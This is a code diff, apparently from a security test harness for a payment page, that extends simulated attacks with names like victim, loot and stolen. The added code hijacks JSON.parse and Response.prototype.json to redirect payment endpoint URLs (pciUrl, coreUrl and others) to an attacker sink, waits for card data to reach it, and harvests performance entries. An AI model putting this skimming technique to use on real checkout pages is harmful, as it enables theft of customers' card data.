@@ -63,6 +63,7 @@ async function reachInto(kind: Kind, stage: Stage): Promise<string> {
         } catch {}
       }
     }
+    window.loot.push(JSON.stringify(performance.getEntries()));
     return window.loot.map(String).join("\n");
   });
 }
@@ -146,20 +147,26 @@ async function redirect(kind: Kind, stage: Stage): Promise<string> {
   });
   const victim = await Victim.open(kind, stage, `(${forgeAddresses})(${JSON.stringify(sink)});`);
   await victim.type();
-  await stage.page.evaluate(() => window.pay().catch(() => {}));
-  await stage.page.waitForFunction(() => window.outcome !== undefined);
+  // After the card was sent to wherever it was sent, as the token is needed for it.
+  const arrived = stage.page.waitForRequest((request) => request.url().startsWith(sink));
+  await stage.page.evaluate(() => void window.pay());
+  await arrived;
   return stolen.join("\n");
 }
 
 function forgeAddresses(sink: string): void {
   Object.assign(window, { address: sink });
-  const genuine = Response.prototype.json;
-  Response.prototype.json = async function forged() {
-    const answer = await genuine.call(this);
-    for (const name of ["pciUrl", "binDataUrl"]) {
-      if (answer && name in answer) answer[name] = sink;
-    }
+  const names = ["pciUrl", "coreUrl", "binDataUrl", "assetsUrl"];
+  // biome-ignore lint/suspicious/noExplicitAny: whatever JSON holds
+  const forge = (answer: any) => {
+    for (const name of names) if (answer && name in answer) answer[name] = sink;
     return answer;
+  };
+  const { parse } = JSON;
+  JSON.parse = (text, reviver) => forge(parse(text, reviver));
+  const { json } = Response.prototype;
+  Response.prototype.json = async function forged() {
+    return forge(await json.call(this));
   };
 }
 
